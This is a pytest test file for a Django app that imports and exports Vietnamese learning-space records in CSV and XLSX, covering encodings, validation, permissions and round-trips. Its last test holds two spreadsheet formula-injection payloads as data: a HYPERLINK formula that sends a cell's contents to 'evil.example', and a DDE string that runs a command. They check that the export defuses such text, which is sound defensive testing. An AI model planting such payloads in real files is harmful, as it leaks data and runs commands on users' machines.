import io
import unicodedata

import pytest
from openpyxl import Workbook

from learningcity.core.errors import DomainError, ImportRejected
from learningcity.core.models import AuditEntry
from learningcity.places import services
from learningcity.places.models import LearningSpace
from learningcity.places.tests.factories import SpaceTypeFactory

pytestmark = pytest.mark.django_db

HEADER = "code,name_vi,type,area,lat,lon,hours,facilities\n"
GOOD = (
    HEADER
    + "SL-1,Ngôi nhà trí tuệ bản Mé Ban,house-of-wisdom,03670-MB,21.3001,103.8925,Mo-Su 08:00-20:00,books;internet\n"
    + "SL-2,Thư viện nhân ái tổ 1,house-of-wisdom,03646-T1,21.33,103.92,,books\n"
)


TONES = {"\u0300", "\u0301", "\u0303", "\u0309", "\u0323"}


def to_cp1258(text: str) -> bytes:
    """Encode as Excel on Vietnamese Windows does: base letters precomposed, tone marks as combining characters."""
    out = []
    for ch in text:
        decomposed = unicodedata.normalize("NFD", ch)
        tones = "".join(m for m in decomposed if m in TONES)
        rest = unicodedata.normalize("NFC", "".join(m for m in decomposed if m not in TONES))
        out.append(rest + tones)
    return "".join(out).encode("cp1258")


def run(city, actor, content: bytes, apply=True):
    return services.spaces_import(actor=actor, city=city, stream=io.BytesIO(content), apply=apply)


@pytest.fixture
def kinds(city):
    return SpaceTypeFactory(city=city)


def test_windows_1258_file_imports_and_reimport_changes_nothing(city, areas, people, kinds):
    data = to_cp1258(GOOD)
    assert b"\xd2" in data or b"\xde" in data or b"\xf2" in data  # combining tone bytes
    preview = run(city, people["city_admin"], data, apply=False)
    assert preview == {"create": 2, "update": 0, "unchanged": 0}
    assert not LearningSpace.objects.exists()
    run(city, people["city_admin"], data)
    space = LearningSpace.objects.get(code="SL-1")
    assert space.name_vi == "Ngôi nhà trí tuệ bản Mé Ban"  # cp1258 decomposed tones are recomposed
    assert space.area == areas["me_ban"]
    audits = AuditEntry.objects.count()
    assert run(city, people["city_admin"], data) == {"create": 0, "update": 0, "unchanged": 2}
    assert AuditEntry.objects.count() == audits


def test_utf8_bom_and_xlsx(city, areas, people, kinds):
    assert run(city, people["city_admin"], b"\xef\xbb\xbf" + GOOD.encode())["create"] == 2
    workbook = Workbook()
    sheet = workbook.active
    for line in GOOD.strip().split("\n"):
        sheet.append(line.split(","))
    sheet.append(["SL-3", "Nhà văn hoá bản Hẹo", "house-of-wisdom", "03670", "21.29", "103.87", "", ""])
    out = io.BytesIO()
    workbook.save(out)
    assert run(city, people["city_admin"], out.getvalue()) == {"create": 1, "update": 0, "unchanged": 2}


def test_bad_rows_are_all_reported_and_nothing_is_written(city, areas, people, kinds):
    bad = (
        HEADER
        + "SL-1,Tốt,house-of-wisdom,03670-MB,21.3,103.89,,\n"
        + "SL-2,Ngoài tỉnh,house-of-wisdom,03670-MB,48.85,2.35,,\n"
        + "SL-3,Không rõ,no-type,99999,21.3,103.89,,\n"
        + "SL-1,Trùng,house-of-wisdom,03670-MB,21.3,103.89,,\n"
        + "SL-5,Giờ sai,house-of-wisdom,03670-MB,21.3,103.89,Mo 20:00-08:00,pool\n"
    )
    with pytest.raises(ImportRejected) as exc:
        run(city, people["city_admin"], bad.encode())
    found = {(e.row, e.column) for e in exc.value.errors}
    assert {(3, "lat"), (4, "type"), (4, "area"), (5, "code"), (6, "hours"), (6, "facilities")} <= found
    assert not LearningSpace.objects.exists()


def test_area_coordinator_cannot_import_into_another_ward(city, areas, people, kinds):
    with pytest.raises(ImportRejected) as exc:
        run(city, people["area_coordinator"], GOOD.encode())
    assert [(e.row, e.column) for e in exc.value.errors] == [(3, "area")]


@pytest.mark.parametrize(
    "content",
    [b"%PDF-1.4 fake", b"\x89PNG\r\n\x1a\n....", b"", b"code;name_vi\nX;Y\n"],
)
def test_disguised_or_broken_files_get_a_message(city, areas, people, kinds, content):
    with pytest.raises(DomainError) as exc:
        run(city, people["city_admin"], content)
    assert exc.value.message


def test_export_reimports_unchanged(client, city, areas, people, kinds):
    run(city, people["city_admin"], GOOD.encode())
    csv_bytes = client.get("/son-la/spaces/export.csv").content
    assert run(city, people["city_admin"], csv_bytes) == {"create": 0, "update": 0, "unchanged": 2}
    xlsx = client.get("/son-la/spaces/export.xlsx").content
    assert run(city, people["city_admin"], xlsx) == {"create": 0, "update": 0, "unchanged": 2}


def test_formula_like_texts_survive_an_export_and_reimport(client, city, areas, people, kinds):
    """The export defuses formula-like texts (a quote in CSV, a text cell in XLSX); the import takes them back."""
    run(city, people["city_admin"], GOOD.encode())
    address = '=1+HYPERLINK("http://evil.example/?d="&B2,"Open map")'
    description = "-2+3+cmd|' /C calc'!A0"
    LearningSpace.objects.filter(city=city).update(address=address, description_vi=description)
    for fmt in ("csv", "xlsx"):
        content = client.get(f"/son-la/spaces/export.{fmt}").content
        assert run(city, people["city_admin"], content) == {"create": 0, "update": 0, "unchanged": 2}, fmt
    assert set(LearningSpace.objects.filter(city=city).values_list("address", "description_vi")) == {
        (address, description)
    }
